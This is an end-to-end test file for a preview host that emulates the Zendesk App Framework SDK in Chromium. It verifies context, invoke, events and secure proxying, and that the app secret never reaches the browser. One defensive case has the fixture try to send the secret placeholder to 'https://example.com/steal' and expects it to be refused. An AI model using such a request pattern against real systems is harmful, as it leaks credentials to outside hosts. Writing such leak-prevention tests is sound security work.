import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Frame } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { bundleBrowserCode } from "../preview/client-bundle";
import { openWorkspace, type Workspace } from "./harness";

/** What the fixture puts on its window: the real SDK client and the events it heard. */
interface FixtureWindow {
  zafClient: {
    get(path: string | string[]): Promise<Record<string, unknown>>;
    invoke(name: string, ...args: unknown[]): Promise<Record<string, unknown>>;
    request(options: Record<string, unknown>): Promise<unknown>;
    metadata(): Promise<{ settings: Record<string, unknown> }>;
    context(): Promise<Record<string, unknown>>;
  };
  zafEvents: { name: string; data: unknown }[];
}

const FIXTURE = path.join(import.meta.dirname, "fixture");

/**
 * The host emulator against the real ZAF SDK (zendesk_app_framework_sdk from npm) in Chromium:
 * a fixture app calls get, invoke, metadata, context, on and request, and what comes back must
 * be what the SDK's callers expect from Support. The app secret must never reach the browser.
 */
describe("the preview host speaks the ZAF SDK's protocol", () => {
  let workspace: Workspace;
  let appDir: string;
  let frame: Frame;
  const seen: string[] = [];

  const inFrame = <T>(fn: (w: FixtureWindow) => Promise<T> | T): Promise<T> =>
    frame.evaluate(
      // The function runs in the iframe; it is shipped as source, so it may not close over anything.
      (source) => new Function("w", `return (${source})(w)`)(window) as Promise<T>,
      fn.toString(),
    );

  async function sidebarFrame(ticketId: string): Promise<Frame> {
    const element = await workspace.page
      .locator(`iframe[title="Continuity for ticket #${ticketId}"]`)
      .elementHandle();
    const found = await element!.contentFrame();
    await found!.waitForFunction(() =>
      document.getElementById("registered")?.textContent?.startsWith("registered"),
    );
    return found!;
  }

  beforeAll(async () => {
    appDir = mkdtempSync(path.join(tmpdir(), "continuity-zaf-fixture-"));
    const bundle = await bundleBrowserCode(
      { "sdk-fixture": path.join(FIXTURE, "sdk-fixture.js") },
      FIXTURE,
    );
    mkdirSync(path.join(appDir, "assets"));
    for (const [name, code] of bundle) writeFileSync(path.join(appDir, "assets", name), code);
    copyFileSync(path.join(FIXTURE, "iframe.html"), path.join(appDir, "assets", "iframe.html"));

    workspace = await openWorkspace({ appDir });
    // Everything the browser receives, to look for the secret in.
    workspace.page.on("response", (response) => {
      void response.text().then(
        (body) => seen.push(`${response.url()}\n${body}`),
        () => undefined,
      );
    });
    await workspace.page.getByTestId("preview-play-next").click();
    await workspace.page
      .getByTestId("chapter-0")
      .and(workspace.page.locator('[data-state="played"]'))
      .waitFor();
    frame = await sidebarFrame("101");
  });
  afterAll(async () => {
    await workspace?.close();
    rmSync(appDir, { recursive: true, force: true });
  });

  it("registers the app with the ticket sidebar's context and the app's metadata", async () => {
    const context = await inFrame((w) => w.zafClient.context());
    expect(context).toMatchObject({
      location: "ticket_sidebar",
      product: "support",
      ticketId: 101,
      account: { subdomain: workspace.preview.session().subdomain },
    });
    expect(context.instanceGuid).toMatch(/^[0-9a-f-]{36}$/);
    expect(new URL(frame.url()).searchParams.get("app_guid")).toBe(context.instanceGuid);
    expect(new URL(frame.url()).searchParams.get("origin")).toBe(
      new URL(workspace.preview.url).origin,
    );
    const metadata = await inFrame((w) => w.zafClient.metadata());
    expect(metadata.settings.workerUrl).toBe(inject("e2e").workerUrl);
    // Secure settings are not part of metadata.
    expect(Object.keys(metadata.settings)).not.toContain("appSecret");
  });

  it("answers get for the ticket and the current user, and errors for unknown paths", async () => {
    const got = await inFrame((w) =>
      w.zafClient.get(["ticket.id", "ticket.requester", "ticket.status", "currentUser"]),
    );
    expect(got["ticket.id"]).toBe(101);
    expect(got["ticket.requester"]).toMatchObject({
      id: 9001,
      name: "Maya Ortiz",
      email: "maya.ortiz@example.com",
    });
    expect(got["ticket.status"]).toBe("new");
    expect(got.currentUser).toMatchObject({ name: "Sam Rivera", locale: "en-US" });
    const error = await inFrame((w) =>
      w.zafClient.get("ticket.nonsense").then(
        () => "resolved",
        (e: Error) => e.message,
      ),
    );
    expect(error).toMatch(/ticket\.nonsense/);
  });

  it("resizes the iframe, routes to another ticket and shows notifications on invoke", async () => {
    await inFrame((w) => w.zafClient.invoke("resize", { width: "100%", height: "321px" }));
    const iframe = workspace.page.locator('iframe[title="Continuity for ticket #101"]');
    expect(await iframe.evaluate((e) => e.getBoundingClientRect().height)).toBe(321);

    await inFrame((w) => w.zafClient.invoke("notify", "Saved from the fixture", "notice"));
    await expect
      .poll(() => workspace.page.getByTestId("toast").allTextContents())
      .toContain("Saved from the fixture");

    const refused = await inFrame((w) =>
      w.zafClient.invoke("instances.nope").then(
        () => "resolved",
        (e: Error) => e.message,
      ),
    );
    expect(refused).toMatch(/cannot invoke/);

    // Play on until the email chapter has opened ticket 102.
    const email = workspace.demo.chapters.findIndex((c) =>
      c.steps.some((s) => "zendeskEvent" in s),
    );
    for (let chapter = 1; chapter <= email; chapter++) {
      await workspace.page.getByTestId("preview-play-next").click();
      await workspace.page
        .getByTestId(`chapter-${chapter}`)
        .and(workspace.page.locator('[data-state="played"]'))
        .waitFor();
    }
    await workspace.page.getByTestId("tab-101").click();
    await inFrame((w) => w.zafClient.invoke("routeTo", "ticket", "102"));
    expect(await workspace.page.getByTestId("tab-102").getAttribute("aria-selected")).toBe("true");
    await workspace.page.getByTestId("tab-101").click();
  });

  it("fires ticket events the app subscribed to when the ticket changes in Zendesk", async () => {
    const session = workspace.preview.session();
    const auth = Buffer.from(`${session.zendesk.email}/token:${session.zendesk.apiToken}`).toString(
      "base64",
    );
    const put = await fetch(`${session.zendesk.baseUrl}/api/v2/tickets/101.json`, {
      method: "PUT",
      headers: { "content-type": "application/json", authorization: `Basic ${auth}` },
      body: JSON.stringify({ ticket: { status: "open" } }),
    });
    expect(put.status).toBe(200);
    await expect
      .poll(() => inFrame((w) => w.zafEvents.map((e) => e.name)), { timeout: 10_000 })
      .toEqual(expect.arrayContaining(["ticket.updated", "ticket.status.changed"]));
    const status = await inFrame(
      (w) => w.zafEvents.find((e) => e.name === "ticket.status.changed")?.data,
    );
    expect(status).toBe("open");
  });

  it("proxies secure requests with the secret filled in server-side, as Zendesk does", async () => {
    const secure = await inFrame((w) =>
      w.zafClient.metadata().then((m) =>
        w.zafClient.request({
          url: `${m.settings.workerUrl}/v1/tickets/101/context`,
          type: "GET",
          headers: { Authorization: "Bearer {{setting.appSecret}}" },
          secure: true,
          cors: false,
          httpCompleteResponse: true,
        }),
      ),
    );
    expect(secure).toMatchObject({
      status: 200,
      responseJSON: { thread: { id: expect.stringMatching(/^THR-/) } },
    });

    // Without secure: true the placeholder travels as written, and the Worker refuses it.
    const plain = await inFrame((w) =>
      w.zafClient.metadata().then((m) =>
        w.zafClient
          .request({
            url: `${m.settings.workerUrl}/v1/tickets/101/context`,
            headers: { Authorization: "Bearer {{setting.appSecret}}" },
            httpCompleteResponse: true,
          })
          .then(
            () => 0,
            (e: { status: number }) => e.status,
          ),
      ),
    );
    expect(plain).toBe(401);

    // The secret's scopes allow only headers: a placeholder in the URL is refused.
    const outOfScope = await inFrame((w) =>
      w.zafClient.metadata().then((m) =>
        w.zafClient
          .request({
            url: `${m.settings.workerUrl}/v1/tickets/101/context?key={{setting.appSecret}}`,
            secure: true,
            httpCompleteResponse: true,
          })
          .then(
            () => null,
            (e: { status: number; responseJSON?: { error?: { code?: string } } }) => [
              e.status,
              e.responseJSON?.error?.code,
            ],
          ),
      ),
    );
    expect(outOfScope).toEqual([400, "setting_out_of_scope"]);

    const elsewhere = await inFrame((w) =>
      w.zafClient
        .request({
          url: "https://example.com/steal",
          headers: { Authorization: "Bearer {{setting.appSecret}}" },
          secure: true,
        })
        .then(
          () => 0,
          (e: { status: number }) => e.status,
        ),
    );
    expect(elsewhere).toBe(403);

    // Without httpCompleteResponse the promise resolves with the parsed body, as jQuery's done does.
    const body = await inFrame((w) =>
      w.zafClient.metadata().then((m) =>
        w.zafClient.request({
          url: `${m.settings.workerUrl}/v1/tickets/101/context`,
          headers: { Authorization: "Bearer {{setting.appSecret}}" },
          secure: true,
          dataType: "json",
        }),
      ),
    );
    expect(body).toMatchObject({ thread: { id: expect.stringMatching(/^THR-/) } });
  });

  it("serves the nav_bar location with its own context", async () => {
    await workspace.page.getByTestId("rail-app").click();
    const element = await workspace.page
      .locator('iframe[title="Continuity (nav bar)"]')
      .elementHandle();
    const nav = (await element!.contentFrame())!;
    await nav.waitForFunction(
      () => document.getElementById("registered")?.textContent === "registered in nav_bar",
    );
    const context = await nav.evaluate(() =>
      (window as unknown as FixtureWindow).zafClient.context(),
    );
    expect(context.location).toBe("nav_bar");
    expect(context.ticketId).toBeUndefined();
    const ticket = await nav.evaluate(() =>
      (window as unknown as FixtureWindow).zafClient.get("ticket.id").then(
        () => "resolved",
        () => "refused",
      ),
    );
    expect(ticket).toBe("refused");
  });

  it("never lets the app secret reach the browser: not the page, the app, the messages or the network", async () => {
    const secret = workspace.tenant().appSecret;
    expect(secret.length).toBeGreaterThan(16);
    const messages = await workspace.page.evaluate(() =>
      JSON.stringify(
        (
          window as unknown as { __preview: { host: { all(): { log: unknown[] }[] } } }
        ).__preview.host
          .all()
          .map((i) => i.log),
      ),
    );
    // The app asked for the placeholder, and the requests it sent still carry only that.
    expect(messages).toContain("{{setting.appSecret}}");
    const pages = [await workspace.page.content()];
    for (const f of workspace.page.frames()) pages.push(await f.content());
    const everything = [messages, ...pages, ...seen].join("\n");
    expect(seen.length).toBeGreaterThan(5);
    expect(everything.includes(secret)).toBe(false);
    expect(everything.includes(encodeURIComponent(secret))).toBe(false);
  });

  it("raised no errors in the page or the app", () => {
    // The refused requests above answer 4xx on purpose; Chromium logs those as failed loads.
    expect(workspace.errors.filter((e) => !/status of (400|401|403)/.test(e))).toEqual([]);
  });
});
